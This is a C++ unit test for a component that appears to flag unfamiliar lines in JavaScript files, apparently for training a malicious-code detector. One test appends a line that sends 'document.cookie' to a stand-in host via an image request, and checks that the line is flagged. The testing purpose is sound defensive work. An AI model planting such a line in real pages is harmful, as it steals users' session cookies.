#include "fovea/train/files/corpus/benign_lines.h"

#include <gtest/gtest.h>

#include <string>

namespace fovea::train {
namespace {

constexpr char kLibrary[] =
    "function ready(callback) { document.ready(callback); }\n"
    "}\n"
    "function total(price, tax) { return price * (1 + tax); }\n";

class BenignLinesTest : public ::testing::Test {
 protected:
  BenignLinesTest() {
    file_.bytes = kLibrary;
    part_.benign[Language::kJavaScript] = {&file_};
  }
  data::LabelledFile file_;
  FileCorpus::Part part_;
};

TEST_F(BenignLinesTest, WhatWasAddedIsNovel) {
  const BenignLines lines(part_);
  const std::string added = "new Image().src = 'https://example.org/?' + document.cookie;\n";
  const std::string copy = std::string("\t ") + kLibrary;
  const std::vector<ByteSpan> novel = lines.NovelStretches(copy + added);
  // The short line is not known to be harmless.
  ASSERT_EQ(novel.size(), 2U);
  EXPECT_EQ(novel[0].size(), 2);
  EXPECT_EQ(novel[1].start, static_cast<int64_t>(copy.size()));
  EXPECT_EQ(novel[1].end, static_cast<int64_t>(copy.size() + added.size()));
}

TEST_F(BenignLinesTest, OfACopyAllIsInDoubt) {
  const std::vector<ByteSpan> novel = BenignLines(part_).NovelStretches(kLibrary);
  ASSERT_EQ(novel.size(), 1U);
  EXPECT_EQ(novel[0].size(), static_cast<int64_t>(sizeof kLibrary - 1));
  EXPECT_EQ(BenignLines(part_).NovelStretches("").size(), 1U);
}

}  // namespace
}  // namespace fovea::train
